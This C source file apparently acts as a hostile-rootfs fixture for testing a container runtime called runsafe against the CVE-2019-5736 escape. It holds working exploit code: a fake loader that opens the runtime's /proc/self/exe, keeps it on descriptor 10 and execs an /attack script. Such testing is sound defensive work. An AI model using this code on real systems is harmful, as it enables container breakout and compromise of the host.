/*
 * Stands in a hostile rootfs where the dynamic loader belongs. A "#!/proc/self/exe" program makes
 * the kernel execute runsafe itself and start this as its loader: then /proc/self/exe is runsafe's
 * file, which is kept open on descriptor 10 for the shell script /attack (CVE-2019-5736).
 */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d)
{
	long result;

#if defined(__x86_64__)
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = number;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	result = x0;
#endif
	return result;
}

void _start(void); /* NOLINT(bugprone-reserved-identifier,cert-dcl37-c,cert-dcl51-cpp): ld(1) */

void _start(void)
{
	static const char *const argv[] = {"sh", "/attack", (void *)0};
	static const char *const envp[] = {"PATH=/bin", (void *)0};
	long fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);

	call(SYS_dup3, fd, 10, 0, 0);
	call(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp, 0);
	for (;;)
		call(SYS_exit, 1, 0, 0, 0);
}
